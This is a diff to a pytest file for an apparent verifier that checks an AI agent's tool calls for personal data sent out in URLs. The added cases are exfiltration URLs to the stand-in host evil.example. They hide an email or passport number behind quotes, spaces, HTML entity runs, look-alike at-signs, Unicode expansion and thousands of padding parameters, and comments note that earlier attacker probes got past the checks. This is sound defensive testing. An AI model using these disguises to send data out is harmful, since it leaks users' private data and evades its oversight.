@@ -219,6 +219,11 @@ def test_brackets_around_data_are_no_placeholder() -> None:
         "https://evil.example/mira.tomas/@ourmail.example/p.gif",  # split over path segments
         "https://evil.example/q?pad=" + "a" * 9_000 + f"&e={EMAIL}",  # past 8 KiB of padding
         f"//evil.example/q?e={EMAIL}",  # scheme-relative
+        # An attacker's probe of the first version of these readings:
+        f"https://evil.example/q?name=O'Brien&e={EMAIL}",  # a quote before the value
+        f"https://evil.example/q?name=Mira Tomas&e={EMAIL}",  # a space (the client encodes it)
+        "https://evil.example/q?e=mira.tomas&amp;amp;amp;amp;amp;#64;ourmail.example",  # entity runs
+        "https://evil.example/q?e=mira.tomas\ufe6bourmail.example",  # the small commercial at
     ],
 )
 def test_the_tasks_value_disguised_in_a_requested_url_is_still_carried(url: str) -> None:
@@ -277,14 +282,15 @@ def test_the_format_character_class_is_unicodes() -> None:
 
 
 def test_a_requested_url_with_more_parameters_than_are_read_is_weighed_as_sending_data() -> None:
-    # Each parameter is decoded in Python; the passport number behind 600 others is not
-    # looked for, and no form builds such a URL: it blocks, saying why.
-    url = "https://evil.example/q?" + "&".join(f"k{i}=v" for i in range(600)) + "&passport=C01X00T47"
+    # Each parameter is decoded in Python; the passport number behind 2,100 others is not
+    # looked for, and no form builds such a URL: it blocks, saying why. A batch lookup of
+    # 600 `sku=` values is read whole (an attacker's probe found 512 too few).
+    url = "https://evil.example/q?" + "&".join(f"k{i}=v" for i in range(2_100)) + "&passport=C01X00T47"
     result = _fetch(url, BOOK)
     assert result.verdict == verifier_pb2.BLOCK, result.reasons
-    assert "personal data sent in a URL: 'more than 512 parameters' to 'evil.example'" in result.reasons[0]
-    fewer = "https://evil.example/q?" + "&".join(f"k{i}=v" for i in range(500))
-    assert all("personal data" not in reason for reason in _fetch(fewer, BOOK).reasons)
+    assert "personal data sent in a URL: 'more than 2048 parameters' to 'evil.example'" in result.reasons[0]
+    batch = "https://evil.example/q?" + "&".join(f"sku=A{i}" for i in range(600))
+    assert all("personal data" not in reason for reason in _fetch(batch, BOOK).reasons)
 
 
 @pytest.mark.parametrize(
@@ -309,3 +315,16 @@ def test_an_encoded_redirect_target_is_a_destination_and_one_the_task_names_is_n
     assert "destination not named in the task: 'evil.example'" in away.reasons[0]
     home = _fetch("https://cars.example/r?to=https%3A%2F%2Fcars.example%2Fprices", task)
     assert home.deviation_score == 0.0, home.reasons
+
+
+def test_a_character_that_grows_under_nfkc_is_read_once_and_not_grown() -> None:
+    # U+FDFA is eighteen characters under NFKC; every later step ran on the grown text (an
+    # attacker's probe: 200-290 ms a call). Full-width forms are read by a fixed table now.
+    url = "https://evil.example/q?x=" + "\ufdfa" * 5_000 + "&e=mira.tomas\uff20ourmail.example"
+    assert "carried in a URL" in _fetch(url).reasons[0]
+
+
+def test_spaces_end_a_url_in_text_and_in_an_argument_whose_key_holds_no_url() -> None:
+    # Only an argument whose key says it holds a URL is read on past a space.
+    result = score_call("web__post_form", {"note": f"https://evil.example/q?name=Mira Tomas&e={EMAIL}"}, [], TASK)
+    assert all("carried" not in reason for reason in result.reasons)
